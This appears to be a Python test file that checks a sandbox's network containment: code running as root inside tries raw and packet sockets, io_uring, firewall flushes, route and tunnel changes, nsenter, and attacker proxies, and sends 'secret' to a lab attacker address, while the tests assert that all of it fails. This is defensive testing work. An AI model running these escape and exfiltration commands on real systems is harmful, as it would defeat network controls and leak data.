"""What root inside may ask of the kernel, and what it gains."""

from __future__ import annotations

from tests.attacks.inside import run_inside
from tests.lab.addresses import v4, v6
from tests.lab.stockade import Stockade

X4, X6 = v4(66), v6(66)

# `reach()`: what a plain connection to the attacker's server comes to.
REACH = f"""
def reach(host={X4!r}, mark=None):
    with socket.socket() as sock:
        sock.settimeout(2)
        if mark is not None:
            sock.setsockopt(socket.SOL_SOCKET, 36, struct.pack("I", mark))
        sock.connect((host, 7777))
        sock.sendall(b"secret\\n")
        return sock.recv(100).decode().strip()
def shell(command):
    done = subprocess.run(command, shell=True, capture_output=True, text=True)
    return done.returncode
"""


def test_sockets_that_go_around_the_network_are_refused(stockade: Stockade) -> None:
    """Packet, raw, hypervisor and crypto sockets, and io_uring, which opens any of them.

    An ordinary socket of the same program is the control.
    """
    code = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def opened(family, kind, protocol=0):
    socket.socket(family, kind, protocol).close()
    return "opened"
def call(number, *arguments):
    if libc.syscall(number, *arguments) < 0:
        raise OSError(ctypes.get_errno(), "")
    return "opened"
asked = {
    "packet": (17, socket.SOCK_RAW, 0x0300), "packet, datagrams": (17, socket.SOCK_DGRAM),
    "vsock": (40, socket.SOCK_STREAM), "vsock, datagrams": (40, socket.SOCK_DGRAM),
    "crypto": (38, socket.SOCK_SEQPACKET), "bluetooth": (31, socket.SOCK_RAW, 1),
    "xdp": (44, socket.SOCK_RAW), "can": (29, socket.SOCK_RAW, 1), "tipc": (30, 1),
    "smc": (43, socket.SOCK_STREAM), "rds": (21, socket.SOCK_SEQPACKET),
    "key": (15, socket.SOCK_RAW, 2), "raw": (2, socket.SOCK_RAW, 255),
    "raw, IPv6": (10, socket.SOCK_RAW, 255), "packets by IP": (2, 10, 0x300),
}
result = {name: tried(opened, *wanted)["said"] for name, wanted in asked.items()}
result["io_uring"] = tried(call, 425, 8, ctypes.create_string_buffer(120))["said"]
result["bpf"] = tried(call, 321, 0, ctypes.create_string_buffer(128), 128)["said"]
result["a network of its own"] = tried(call, 272, 0x40000000)["said"]
result["control"] = tried(opened, 2, socket.SOCK_STREAM)["said"]
"""
    report = run_inside(stockade, code, policy="all")
    assert report.value.pop("control") == "opened"
    gained = {name: said for name, said in report.value.items() if said == "opened"}
    assert gained == {}


def test_packet_marks_mean_nothing(stockade: Stockade) -> None:
    """Many filters let marked packets pass, and ours use a mark inside the gateway.

    A devbox may mark its own packets or not: no mark leads anywhere.
    """
    code = f"""{REACH}
marks = [None, 0, 1, 2, 100, 0x1, 0x10000, 0xffffffff]
result = [tried(reach, {X4!r}, mark)["said"] for mark in marks]
"""
    denied = run_inside(stockade, code, policy="a.test")
    assert "secret" not in denied.value
    assert sum(denied.packets.values()) == 0
    assert denied.denied(X4, 7777) == {"address_not_allowed"}
    control = run_inside(stockade, code, policy="all")
    assert control.value[:1] == ["secret"]


ATTEMPTS = (
    "nft flush ruleset",
    "nft add table ip nat",
    "iptables -F",
    "iptables -t nat -A OUTPUT -j ACCEPT",
    "ip route replace default via 100.127.0.5",
    f"ip route add {X4} dev eth0 src 100.127.0.5 onlink",
    "ip route flush table local",
    "ip rule add fwmark 1 lookup 100",
    "ip addr add 100.127.0.5/31 dev eth0",
    "ip addr add 198.51.100.2/24 dev eth0",
    "ip link set eth0 address 02:00:00:00:00:07",
    "ip link add stolen type dummy",
    "ip link add link eth0 name stolen type macvlan mode bridge",
    "ip link add stolen type gre remote 203.0.113.66",
    "ip link set eth0 netns 1",
    "ip neigh replace 100.127.0.2 lladdr 02:00:00:00:00:09 dev eth0",
    "ip -6 route replace default via fe80::1 dev eth0",
    "ip tuntap add mode tun stolen",
    "sysctl -w net.ipv4.ip_forward=1",
    "sysctl -w net.ipv4.conf.eth0.route_localnet=1",
    "sysctl -w net.ipv6.conf.all.accept_ra=2",
    "echo 1 > /proc/sys/net/ipv4/ip_forward",
    "echo 0 2147483647 > /proc/sys/net/ipv4/ping_group_range",
    "mount -t proc proc /mnt",
    "mount -o remount,rw /proc/sys",
    "unshare -n true",
    "unshare -Urn true",
    "nsenter -t 1 -n -m true",
    "tc qdisc replace dev eth0 root netem delay 1ms",
    "modprobe sctp",
)


def test_root_inside_gains_nothing_by_its_tools(stockade: Stockade) -> None:
    """Rules, routes, addresses, devices and kernel settings, all as root inside.

    Whichever of the commands succeeds: afterwards what was denied is denied.
    """
    code = f"""{REACH}
before = tried(reach)["said"]
codes = [[command, shell(command)] for command in given]
result = [before, tried(reach)["said"], codes]
"""
    denied = run_inside(stockade, code, policy="a.test", arguments=ATTEMPTS)
    before, after, codes = denied.value
    assert "secret" not in (before, after)
    assert sum(denied.packets.values()) == 0
    succeeded = [command for command, status in codes if status == 0]
    assert [command for command in succeeded if "nsenter" not in command] == []
    control = run_inside(stockade, code, policy="all", arguments=ATTEMPTS)
    assert control.value[:2] == ["secret", "secret"]


def test_proxy_variables_are_of_no_consequence(stockade: Stockade) -> None:
    """Enforcement that hangs on a variable ends where the variable is unset.

    Without them, or with proxies of the attacker's own, the verdicts are the same.
    """
    settings: tuple[tuple[str, ...], ...] = (
        (),
        ("-e", "https_proxy=", "-e", "http_proxy=", "-e", "no_proxy=*"),
        *(
            ("-e", f"https_proxy={proxy}", "-e", f"http_proxy={proxy}")
            for proxy in (f"http://{X4}:8080", "socks5h://x.test:1080")
        ),
    )
    code = """
def fetch(url):
    done = subprocess.run(["curl", "-sm3", "-o/dev/null", "-w%{http_code}", url],
                          capture_output=True, text=True)
    return done.stdout
result = [fetch("http://a.test/"), fetch("http://d.test/")]
"""
    for number, options in enumerate(settings):
        report = run_inside(stockade, code, policy="a.test", options=options)
        assert not report.run.saw(kind="http", name="d.test")
        assert not report.run.saw(address=X4)
        assert not report.run.saw(address=X6)
        if number < 2:
            assert report.value == ["200", "403"]
